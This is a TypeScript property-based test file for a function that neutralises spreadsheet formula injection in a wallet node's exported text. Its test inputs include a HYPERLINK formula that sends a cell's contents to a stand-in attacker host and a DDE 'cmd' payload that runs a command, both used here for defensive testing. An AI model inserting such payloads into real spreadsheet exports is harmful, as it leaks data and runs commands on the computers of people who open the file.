import fc from 'fast-check';

import { guarded, sheetRow, sheetText, unguarded } from '../../nodes/VtuWallet/values/sheetText';
import { anyCharacter, forAll } from '../support/forAll';

test.each([
	...['=1+1', '=HYPERLINK("https://evil.example?"&A1,"Receipt")', "+cmd|' /C calc'!A0"],
	...['-2+3+cmd()', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1', '\n@x', '\uff1d1+1'],
	'-- sent by MTN',
])('a sheet shows %j as text, behind an apostrophe', (text) => {
	expect(sheetText(text)).toBe(`'${text}`);
});

test.each([
	...['', 'MTN: success', '08031234567', '+234 803 123 4567', '-50', '-1,234.50', '(080) 3'],
	...['a=b', 'bet9ja/=x'],
])('the text %j stays as it is', (text) => expect(sheetText(text)).toBe(text));

test('no text gives a cell that begins like a formula and holds more than a number', () => {
	const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', '1', 'a', '(', ')');
	forAll([fc.array(start, { maxLength: 6 }), fc.string()], (before, after) => {
		const cell = sheetText(before.join('') + after);
		expect(/^\s*[=+@-].*[a-z(!|]/is.test(cell) && !/^\s*[+-]?[\d\s.,()-]*$/.test(cell)).toBe(false);
	});
});

test('every text of a row is guarded except its key and its reference, which must stay the same', () =>
	expect(
		sheetRow({ message: '=x()', amount: -5, key: '=k', reference: '-r', pins: ['=p'] }),
	).toEqual({
		message: "'=x()",
		amount: -5,
		key: '=k',
		reference: '-r',
		pins: ['=p'],
	}));

const formulas = ['=1+1', '+234', '-5', '@home', '\tx', "'quoted", "'=both"];
test.each(formulas)(
	'a spreadsheet takes %j for a text, and the node reads it back unchanged',
	(text) => {
		expect(guarded(text)).toBe(`'${text}`);
		expect(unguarded(guarded(text))).toBe(text);
	},
);

test('a text without a sign of a formula stays as it is', () => {
	expect(guarded('Airtime to 0803')).toBe('Airtime to 0803');
	expect(guarded('')).toBe('');
});

test.each([
	['sent\0 twice', 'sent twice'],
	['\0=1+1', "'=1+1"],
	['\0', ''],
])('characters that PostgreSQL cannot store are left out of %j', (text, kept) => {
	expect(guarded(text)).toBe(kept);
});

test('any other text is read back unchanged', () => {
	const storable = fc.string({ unit: anyCharacter }).filter((text) => !text.includes('\0'));
	forAll([storable], (text) => unguarded(guarded(text)) === text);
});
